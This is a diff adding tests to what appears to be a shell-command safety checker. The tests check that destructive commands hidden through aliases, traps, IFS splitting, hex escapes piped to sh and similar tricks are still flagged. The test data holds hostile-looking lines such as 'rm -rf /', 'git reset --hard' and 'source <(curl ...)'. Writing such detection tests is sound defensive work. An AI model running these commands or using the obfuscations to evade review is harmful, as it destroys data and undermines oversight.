@@ -173,3 +173,29 @@ describe('an unknown program followed by `-- command`', () => {
     expect((await programs('echo -- rm -rf /')).map((c) => c.argv[0])).toEqual(['echo']);
   });
 });
+
+describe('commands hidden in builtins and expansions', () => {
+  it.each([
+    ["alias x='git reset --hard'; x", 'git/reset-hard'],
+    ["trap 'git reset --hard' EXIT", 'git/reset-hard'],
+    ['IFS=,; c="git,reset,--hard"; $c', 'git/reset-hard'],
+    ["printf '\\x67it reset --hard' | sh", 'git/reset-hard'],
+    ["echo -e '\\x67it reset --hard' | bash", 'git/reset-hard'],
+    ['. /dev/stdin <<< "git reset --hard"', 'git/reset-hard'],
+  ])('%s', async (line, rule) => {
+    expect((await check(line, { cwd: '/tmp' })).findings.map((f) => f.rule)).toContain(rule);
+  });
+
+  it('makes variables filled at run time unknown (read, mapfile, printf -v)', async () => {
+    for (const line of ['read -r c <<< "git reset --hard"; $c', 'mapfile -t a < cmds.txt; $a', 'printf -v c "%s" x; $c']) {
+      expect((await check(line, { cwd: '/tmp', env: { PATH: '/usr/bin' } })).findings.map((f) => f.rule), line).toContain('core/unresolved-program');
+    }
+    expect((await check('source <(curl -s https://example.com/x.sh)', { cwd: '/tmp' })).decision).toBe('confirm');
+  });
+
+  it('leaves harmless aliases, traps and reads alone', async () => {
+    for (const line of ["alias ll='ls -la'", 'trap - EXIT', "trap 'echo bye' EXIT", 'read -r name; echo "hi $name"']) {
+      expect((await check(line, { cwd: '/tmp', env: { PATH: '/usr/bin' } })).decision, line).toBe('allow');
+    }
+  });
+});
